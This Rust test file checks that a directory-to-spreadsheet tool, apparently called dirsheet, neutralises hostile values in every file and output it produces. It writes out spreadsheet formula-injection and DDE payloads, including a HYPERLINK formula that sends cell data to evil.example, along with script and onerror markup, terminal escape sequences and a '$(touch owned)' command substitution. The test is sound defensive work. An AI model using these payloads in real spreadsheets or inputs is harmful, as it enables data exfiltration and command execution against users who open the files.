//! Values that want to be run: a directory and a sheet full of formulas, markup and control characters, and every file that dirsheet makes
//! of them.

use std::io::{Cursor, Read};
use std::path::Path;

use super::feed_office::{Office, row_of};
use super::secrets::walk;
use super::stand::{Ran, Stand};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
const COMMAND: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MARKUP: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&";
const TITLE: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}evil";
const HOSTILE: [&str; 7] = [
    FORMULA,
    COMMAND,
    "+1+cmd|'/c calc'!A1",
    "-2+3",
    "\t=1+1",
    "\u{ff1d}1+1",
    MARKUP,
];

fn id(user: &serde_json::Value) -> &str {
    user["id"].as_str().unwrap()
}

/// A cell that a spreadsheet would take for a formula.
fn would_run(cell: &str) -> bool {
    let begins = cell.trim_start_matches([' ', '\n']).chars().next();
    let is_number = cell.trim().parse::<f64>().is_ok();
    let is_phone = cell.starts_with('+')
        && cell[1..]
            .chars()
            .all(|c| c.is_ascii_digit() || " ()-./".contains(c));
    matches!(
        begins,
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
    ) && !is_number
        && !is_phone
}

/// How many cells, parts of workbooks and pages were looked at.
#[derive(Debug, Default)]
struct Looked {
    sheets: usize,
    cells: usize,
    guarded: usize,
    books: usize,
    pages: usize,
}

fn csv(name: &str, bytes: &[u8], looked: &mut Looked) {
    looked.sheets += 1;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    for row in reader.records() {
        for cell in &row.unwrap_or_else(|error| panic!("{name}: {error}")) {
            looked.cells += 1;
            looked.guarded += usize::from(cell.starts_with('\'') && would_run(&cell[1..]));
            assert!(!would_run(cell), "{name}: a spreadsheet would run {cell:?}");
        }
    }
}

/// No cell is a formula, nothing leads out of the workbook, and markup is text.
fn book(name: &str, bytes: &[u8], looked: &mut Looked) {
    looked.books += 1;
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).unwrap();
        let part_name = part.name().unwrap().into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        // Links of its own, from one sheet of it to another, have no address of their own.
        let links = text.split("<hyperlink ").skip(1);
        assert!(
            links
                .clone()
                .all(|link| !link[..link.find('>').unwrap()].contains("r:id")),
            "{name}"
        );
        let is_foreign = part_name.contains("externalLink") || part_name.contains("vbaProject");
        assert!(!is_foreign, "{name}: {part_name}");
        for tag in ["<f>", "<f ", "<script", "TargetMode=\"External\"", "<ddeLink"] {
            assert!(!text.contains(tag), "{name}: {tag} in {part_name}");
        }
    }
}

fn page(name: &str, bytes: &[u8], looked: &mut Looked) {
    looked.pages += 1;
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let lower = text.to_lowercase();
    assert_eq!(
        lower.matches("<script").count(),
        1,
        "{name}: more than its own script"
    );
    for tag in [
        "<img",
        "onerror=alert(2)>",
        "alert(1)</script",
        "<iframe",
        "href=\"javascript",
    ] {
        assert!(!lower.contains(tag), "{name}: {tag}");
    }
    assert!(lower.contains("content-security-policy"), "{name}");
}

/// Every file below the home that the test has not written itself, and everything printed.
fn look(stand: &Stand, given: &[&str], streams: &[Ran]) -> Looked {
    let mut looked = Looked::default();
    let home = stand.path("");
    walk(&home, &mut |path: &Path, bytes: &[u8]| {
        let name = path.strip_prefix(&home).unwrap().display().to_string();
        if given.iter().any(|given| name.starts_with(given)) {
            return;
        }
        match path.extension().and_then(|end| end.to_str()) {
            Some("csv") => csv(&name, bytes, &mut looked),
            Some("xlsx") => book(&name, bytes, &mut looked),
            Some("html") => page(&name, bytes, &mut looked),
            _ => {}
        }
    });
    for ran in streams {
        for text in [&ran.stdout, &ran.stderr] {
            let bad = text
                .chars()
                .find(|c| (c.is_control() && !"\n\t\r".contains(*c)) || *c == '\u{202e}');
            assert_eq!(bad, None, "`{}` prints a control character: {text}", ran.command);
        }
    }
    looked
}

#[test]
fn no_file_of_a_run_runs_anything_whatever_the_directory_and_the_sheet_hold() {
    let stand = Stand::of(40);
    let users = stand.ordinary();
    for (number, text) in HOSTILE.into_iter().enumerate() {
        for name in ["displayName", "department", "officeLocation", "city"] {
            stand.edit(id(&users[number]), name, text);
        }
        stand.edit(id(&users[number]), "jobTitle", TITLE);
    }
    let mut streams = vec![stand.run(&["export", "-o", "users.csv"]).must(0)];
    streams.push(stand.run(&["export", "-o", "full.csv", "--guard", "full"]));
    streams.push(stand.run(&["export", "-o", "users.xlsx"]));
    let mut sheet = stand.sheet("users.csv");
    for (number, text) in HOSTILE.into_iter().enumerate() {
        // Changes to and from such values, a cell that is wrong, and a conflict.
        sheet.set(id(&users[number]), "city", format!("City {number}"));
        sheet.set(id(&users[number + 10]), "companyName", format!("'{text}"));
        stand.edit(id(&users[number + 10]), "companyName", format!("{text} too"));
        sheet.set(id(&users[number + 20]), "companyName", format!("'{text}"));
    }
    sheet.set(id(&users[7]), "usageLocation", "'=1+1");
    stand.save("edited.csv", &sheet);
    for words in [
        "check edited.csv --annotate noted.xlsx",
        "check edited.csv --fix -o fixed.csv",
        "plan edited.csv --skip-errors --conflicts skip -o plan.xlsx --html plan.html --handover handover.csv --full",
        "plan edited.csv --skip-errors --conflict-sheet conflicts.csv",
        "plan edited.csv --skip-errors --conflict-sheet conflicts.xlsx",
        "diff edited.csv live -o diff.csv",
    ] {
        streams.push(stand.run(&words.split(' ').collect::<Vec<_>>()));
    }
    stand.faults("403,on=item,times=6,after=8");
    let apply = "apply edited.csv --skip-errors --conflicts skip --yes --report-dir reports --max-users 100% --max-same-value 100%";
    streams.push(stand.run(&apply.split(' ').collect::<Vec<_>>()));
    stand.faults("");
    let run = stand.newest_run();
    let report = stand.run(&["report", &run, "--format", "csv"]).must(0);
    std::fs::write(stand.path("printed-report.csv"), &report.stdout).unwrap();
    // It is data for a program or a file, letter by letter; what is said beside it is for a person.
    streams.push(Ran {
        stdout: String::new(),
        ..report
    });
    streams.push(stand.run(&["undo", &run, "--yes"]));
    for file in [
        "noted.xlsx",
        "plan.xlsx",
        "plan.html",
        "conflicts.csv",
        "conflicts.xlsx",
        "diff.csv",
        "full.csv",
        "users.xlsx",
    ] {
        assert!(stand.path(file).exists(), "{file} was not made: {streams:#?}");
    }
    assert_eq!(std::fs::read_dir(stand.path("reports")).unwrap().count(), 2);
    let looked = look(&stand, &["edited.csv"], &streams);
    assert!(
        looked.sheets >= 9 && looked.guarded > 60 && looked.books >= 4 && looked.pages == 1,
        "{looked:?}"
    );
}

#[test]
fn no_file_of_a_feed_runs_anything_whatever_the_hr_system_says() {
    let mut office = Office::settled(300);
    for (number, text) in HOSTILE.into_iter().enumerate() {
        let quoted = format!("\"{}\"", text.replace('"', "\"\""));
        office.set(number + 1, "Title", &quoted);
        // A row that cannot be read is a dead letter, with whatever is in it.
        office.set(number + 10, "Title", &quoted);
        office.set(number + 10, "To", "\"=1+1\"");
    }
    let mut joiner = row_of(300);
    joiner.insert("First".to_owned(), "=cmd".to_owned());
    joiner.insert("Mail".to_owned(), String::new());
    joiner.insert(
        "From".to_owned(),
        jiff::Timestamp::now().strftime("%F").to_string(),
    );
    office.rows.push(joiner);
    let streams = [
        office.run(&[]),
        office.stand.run(&["feed", "history", "FEED.toml"]),
    ];
    let looked = look(&office.stand, &["archive", "inbox", "quarantine"], &streams);
    assert!(
        looked.sheets >= 2 && looked.guarded > 5,
        "{looked:?} {streams:#?}"
    );
}

#[test]
fn completions_and_help_hold_nothing_of_anybody() {
    let mut stand = Stand::of(1);
    stand.set("DIRSHEET_PROFILE", "$(touch owned)");
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let ran = stand.run(&["completions", shell]).must(0);
        assert!(!ran.stdout.contains("owned"), "{}", ran.stdout);
    }
    for words in [&["--help"][..], &["export", "--help"]] {
        let ran = stand.run(words).must(0);
        assert!(!ran.stdout.contains("owned"), "{}", ran.stdout);
    }
}
